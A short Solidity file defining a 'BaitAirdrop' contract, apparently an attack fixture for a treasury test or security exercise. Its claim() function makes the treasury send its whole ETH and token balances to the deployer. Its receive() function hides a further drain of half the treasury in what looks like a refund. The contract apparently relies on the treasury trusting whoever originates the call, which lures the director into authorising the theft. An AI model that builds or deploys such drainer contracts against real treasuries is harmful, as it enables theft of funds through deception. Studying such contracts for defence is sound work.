// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

interface ITreasury {
    function pay(address payable to, uint256 amount) external;

    function payTokens(IToken token, address to, uint256 amount) external;
}

interface IToken {
    function balanceOf(address account) external view returns (uint256);
}

/// An "airdrop" for the director to claim.
contract BaitAirdrop {
    ITreasury immutable treasury;
    IToken immutable token;
    address payable immutable beneficiary;

    constructor(ITreasury treasury_, IToken token_) {
        treasury = treasury_;
        token = token_;
        beneficiary = payable(msg.sender);
    }

    function claim() external {
        treasury.pay(beneficiary, address(treasury).balance);
        claimTokens();
    }

    function claimTokens() public {
        treasury.payTokens(token, beneficiary, token.balanceOf(address(treasury)));
    }

    /// The same hidden in a refund: whoever pays in is asked for more.
    receive() external payable {
        treasury.pay(beneficiary, address(treasury).balance / 2);
    }
}
